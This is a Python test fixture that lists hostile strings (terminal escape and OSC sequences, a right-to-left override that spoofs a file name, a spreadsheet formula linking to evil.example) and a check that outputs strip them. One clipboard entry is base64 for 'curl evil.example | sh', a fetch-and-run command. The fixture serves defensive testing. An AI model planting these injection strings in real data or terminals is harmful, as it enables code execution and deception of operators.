"""Hostile text: what anyone can put in a name, a LINE display name, a chat message or a
file cell, to try to run code on the operator's terminal, page or spreadsheet.

``CORPUS`` maps a short label to the string. ``assert_terminal_safe(data)`` is the byte
check every output format must pass: no ESC, BEL, NUL or DEL byte, no C1 control
character (U+0080-U+009F), no bidirectional override or isolate. ``THAI`` is text with
combining vowels and tone marks that every format must keep exactly as it is.
"""

from __future__ import annotations

import re

ESC, BEL = "\x1b", "\x07"

THAI = "น้ำผึ้ง ที่รักษ์ ใจดี"  # SARA AM, MAI THO, MAI EK, SARA I, THANTHAKHAT: marks of zero width

CORPUS: dict[str, str] = {
    "csi colour": f"Evil{ESC}[31mRED{ESC}[0m",
    "csi cursor moves": f"A{ESC}[2J{ESC}[H{ESC}[10;20H{ESC}[1A{ESC}[KB",
    "osc 0 window title": f"X{ESC}]0;pwned{BEL}Y",
    "osc 8 hyperlink": f"{ESC}]8;;https://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "osc 52 clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}copy",
    "bel": f"ding{BEL}dong",
    "nul": "nul\x00byte",
    "del": "del\x7fete",
    "c1 csi": "c1\x9b31mred\x9b0m",
    "c1 osc and st": "\x9d0;title\x9cafter",
    "rtl override": "invoice\u202egpj.exe",
    "bidi embedding and isolate": "\u202aleft\u202c \u2067right\u2069",
    "zero width joiners": "zw\u200bsp\u200dj\u200cnj\u2060wj\ufeffbom",
    "rich markup": "[bold red]not markup[/] [link=https://evil.example]x[/link] :skull:",
    "formula": '=HYPERLINK("https://evil.example","click")',
    "thai": THAI,
    "thai with escape": f"{THAI}{ESC}[5m",
    "long": "N" * 10_000,
}

_UNSAFE_CHARS = re.compile("[\x00\x07\x1b\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_terminal_safe(data: bytes | str, where: str = "") -> None:
    """No escape, bell, NUL, DEL, C1 control or direction override in ``data``."""
    raw = data.encode("utf-8", "surrogateescape") if isinstance(data, str) else data
    for byte, name in ((0x1B, "ESC"), (0x07, "BEL"), (0x00, "NUL"), (0x7F, "DEL")):
        assert byte not in raw, f"{where}: {name} byte in output at {raw.index(byte)}: {raw[max(0, raw.index(byte) - 30):raw.index(byte) + 30]!r}"
    text = raw.decode("utf-8")
    bad = _UNSAFE_CHARS.search(text)
    assert bad is None, f"{where}: U+{ord(bad.group()):04X} in output: {text[max(0, bad.start() - 30):bad.start() + 30]!r}"
